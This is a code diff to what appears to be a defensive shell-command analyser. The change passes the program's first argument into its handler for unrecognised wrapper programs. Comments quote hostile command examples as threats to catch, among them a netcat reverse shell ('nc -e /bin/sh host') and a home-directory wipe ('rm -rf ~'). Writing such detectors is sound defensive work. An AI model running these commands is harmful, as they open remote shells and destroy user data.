@@ -296,9 +296,9 @@ class Expander:
         for inner_text in option_commands(interpreter_name(program) or program, rest):
             # `nc -e /bin/sh host`: the shell's stdin is the connection, so its script comes from elsewhere.
             self.inner(program, inner_text, depth, Feed("pipe") if program in NETWORK_FED else feed)
-        self._by_kind(program, rest, depth, feed)
+        self._by_kind(program, rest, depth, feed, argv[0])
 
-    def _by_kind(self, program: str, rest: list[Word], depth: int, feed: Feed) -> None:
+    def _by_kind(self, program: str, rest: list[Word], depth: int, feed: Feed, head: str = "") -> None:
         """What the command runs, by what kind of program it is: eval, a shell, an interpreter, env, a wrapper …"""
         if program == "eval":
             if rest and all(w.value is not None for w in rest):
@@ -336,18 +336,18 @@ class Expander:
             if program == "xargs" and isinstance(inner, list):
                 inner = [_fed_paths(part, feed) for part in inner]
             if inner is None and program not in DATA_PROGRAMS:
-                self._unknown(program, rest, depth, feed)
+                self._unknown(program, rest, depth, feed, head)
             # A wrapper's command reads the wrapper's stdin (xargs' reads nothing: xargs takes it); a container's or
             # a remote host's shell is not one this machine starts.
             inner_feed = NO_FEED if program in ("xargs", "parallel") else REMOTE if program in _ELSEWHERE else feed
             self.inner(program, inner, depth, inner_feed)
 
-    def _unknown(self, program: str, rest: list[Word], depth: int, feed: Feed) -> None:
+    def _unknown(self, program: str, rest: list[Word], depth: int, feed: Feed, head: str = "") -> None:
         """A program no rule and no table here knows. Threat: a wrapper nobody listed (`aa-exec /bin/sh`, `choom -n 0
         rm -rf ~`, `logsave /dev/null /bin/sh -i`) and a code option nobody listed (`lua -e 'os.execute("…")'`).
         The first word that names a shell or a program a rule denies is taken for the command it runs, with the
         words after it; literal command lines in its code options are judged."""
-        named = named_words(program, rest)  # (`ip a sh`: an abbreviated command, not a shell)
+        named = named_words(head, rest)  # (`ip a sh`: an abbreviated command, not a shell)
         for i, word in enumerate(rest):
             if i in named:
                 continue
